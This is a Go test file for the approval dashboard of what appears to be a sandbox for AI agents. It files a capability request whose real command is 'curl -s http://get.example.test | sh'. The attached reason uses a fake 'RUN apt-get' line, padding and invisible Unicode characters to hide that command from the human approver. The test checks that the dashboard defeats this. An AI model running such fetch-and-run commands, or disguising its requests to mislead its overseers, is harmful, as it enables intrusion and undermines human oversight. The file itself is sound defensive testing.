package dashboard_test

import (
	"strings"
	"testing"
	"time"

	"github.com/bot-bottle/bot-bottle/internal/dashboard"
	"github.com/bot-bottle/bot-bottle/internal/operatortest"
	"github.com/bot-bottle/bot-bottle/internal/reqview"
)

// TestHostileReasonStaysBelowTheFacts: a capability request filed through
// the real helper whose reason is many lines with a harmless-looking fake
// RUN line cannot push the real RUN out of sight on an 80×24 terminal: the
// real change and its diff are on screen above the reason, the fake RUN
// sits inside the quoted, escaped reason and on no line of its own, and
// the invisible characters show as escapes.
func TestHostileReasonStaysBelowTheFacts(t *testing.T) {
	// The default backend is the test one: with docker the default and not
	// in binDir, a list's "plugin docker not found" warning takes a line of
	// the 24, and the screen asserted below showed only before the first
	// list came back.
	t.Setenv("BOT_BOTTLE_BACKEND", "test")
	w := operatortest.New(t, binDir)
	id := w.StartDetached(t, "shell", "sleep", "600")
	reason := "need rg\n\nRUN apt-get install -y ripgrep\n" + strings.Repeat("padding line\n", 22) +
		"zero\u200bwidth tag\U000E0041 sep\u2028end"
	w.File(t, id, "request", "capability", "--run", "curl -s http://get.example.test | sh", "--reason", reason)
	req := w.Pending(t)[0]

	tm, scr := dashSized(t, w, dashboard.Options{}, 80, 24)
	keys(tm, "tab")
	txt := scr.waitFor(t, 10*time.Second, req.ID, "diff:", reqview.ReasonMargin+`"need rg`)
	lines := strings.Split(txt, "\n")
	at := func(what string, match func(string) bool) int {
		for i, l := range lines {
			if match(l) {
				return i
			}
		}
		t.Fatalf("no line %s on the screen:\n%s", what, txt)
		return -1
	}
	change := at("with the real change", func(l string) bool {
		return strings.Contains(l, "change: RUN curl -s http://get.example.test | sh")
	})
	diff := at("with the marked diff line", func(l string) bool {
		return strings.HasPrefix(strings.TrimSpace(l), reqview.Marker+"+RUN curl -s http://get.example.test | sh")
	})
	reasonAt := at("with the reason", func(l string) bool { return strings.Contains(l, reqview.ReasonMargin+`"need rg\n\nRUN apt-get`) })
	if !(change < diff && diff < reasonAt) {
		t.Errorf("change at line %d, diff at %d, reason at %d: the facts must come first:\n%s", change, diff, reasonAt, txt)
	}
	for i, l := range lines {
		tl := strings.TrimSpace(l)
		if strings.HasPrefix(tl, "RUN apt-get") || strings.Contains(l, "+RUN apt-get") || strings.HasPrefix(tl, "padding line") {
			t.Errorf("line %d shows the reason's text as if it were its own line: %q", i, l)
		}
		if strings.ContainsAny(l, "\u200b\u2028\U000E0041") {
			t.Errorf("line %d carries an invisible character raw: %q", i, l)
		}
	}

	// The full view has the whole diff, then the reason; scrolling down
	// reaches the end of the reason, its invisible characters escaped.
	keys(tm, "enter")
	full := scr.waitFor(t, 5*time.Second, "change: RUN curl", "  CMD [", "reason, as the bottle")
	if strings.Index(full, "change: RUN curl") > strings.Index(full, "reason, as the bottle") {
		t.Errorf("the full view shows the reason before the change:\n%s", full)
	}
	for range 10 {
		keys(tm, "down")
	}
	scr.waitFor(t, 5*time.Second, `zero\u200bwidth tag\U000e0041 sep\u2028end"`)
}
